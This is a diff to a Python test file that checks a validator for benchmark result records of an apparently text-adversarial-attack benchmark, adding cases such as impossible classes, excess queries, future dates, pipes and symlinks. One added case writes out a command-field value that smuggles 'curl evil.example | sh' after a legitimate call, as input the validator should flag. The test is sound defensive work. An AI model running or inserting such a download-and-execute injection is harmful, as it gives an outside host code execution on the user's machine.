@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import shutil
 from collections.abc import Callable
 from pathlib import Path, PurePosixPath
@@ -83,7 +84,7 @@ def add_cell(letters: str, **names: object) -> Callable[[Path], None]:
 PROBLEMS = {
     "a metric": (
         set_field("metrics", "queries_mean", value=9.5),
-        f"{ROW}/pwws.json: metrics: queries_mean is 9.5, but pwws.jsonl gives 10",
+        f"{ROW}/pwws.json: metrics: queries_mean is 9.5, but pwws.jsonl gives 38",
     ),
     "an interval": (
         set_field("metrics", "accuracy_under_attack", "low", value=0.4),
@@ -174,6 +175,33 @@ PROBLEMS = {
         f"{ROW}/pwws.jsonl: predictions: line 1: another clean prediction than most cells of "
         "the row",
     ),
+    "a class that there is not": (
+        set_outcome(2, adversarial_prediction=2),
+        f"{ROW}/pwws.jsonl: outcomes: line 2: a class that there is not, because label_names has 2",
+    ),
+    "more queries than the budget": (
+        set_outcome(3, queries=151),
+        f"{ROW}/pwws.jsonl: limits: line 3: more queries than the budget",
+    ),
+    "another model": (
+        set_outcome(4, label_probability=0.7),
+        f"{TABLE}/minilm-97f6e7cb/textfooler.jsonl: predictions: line 4: another "
+        f"label_probability than {ROW}/pwws.json",
+    ),
+    "a date in the future": (
+        set_field("created_at", value="2999-01-01T00:00:00Z"),
+        f"{ROW}/pwws.json: date: created_at is in the future: 2999-01-01T00:00:00Z",
+    ),
+    "a command for a shell": (
+        set_field("command", value="robustbert bench --out runs/a; curl evil.example | sh"),
+        f"{ROW}/pwws.json: command: the command is not one quoted call of robustbert; file the "
+        "record as written",
+    ),
+    "other names of the labels": (
+        set_field("dataset", "label_names", value=["positive", "negative"]),
+        f"{ROW}/pwws.json: conditions: label_names ['positive', 'negative'] instead of "
+        "['negative', 'positive'], as in most of the table",
+    ),
     "an attack with an error": (
         add_cell("sbbrxe"),
         f"{ROW}/pwws.json: errors: 1 attack ended in an error; repeat the run, which retries them",
@@ -247,6 +275,22 @@ PROBLEMS = {
     "a link": (
         lambda results: (results / ROW / "iga.json").symlink_to("pwws.json"),
         f"{ROW}/iga.json: files: is a link; put the file itself here",
+    ),
+    "a pipe": (
+        lambda results: os.mkfifo(results / ROW / "iga.json"),
+        f"{ROW}/iga.json: files: is not a regular file; remove it",
+    ),
+    "a link to a dataset": (
+        lambda results: [
+            move("rotten_tomatoes", "../moved")(results),
+            (results / "rotten_tomatoes").symlink_to("../moved"),
+        ],
+        "rotten_tomatoes: files: is a link; put the file itself here",
+    ),
+    "a folder with outcomes only": (
+        add_file("imdb/unifed/minilm-97f6e7cb/pwws.jsonl"),
+        "imdb/unifed/minilm-97f6e7cb/pwws.jsonl: files: 'unifed' is not a track; the tracks are "
+        "published, unified, unified-li",
     ),
     "claims in another format": (
         add_file(f"{ROW}/claims.json", '{"claims_version": 7}'),
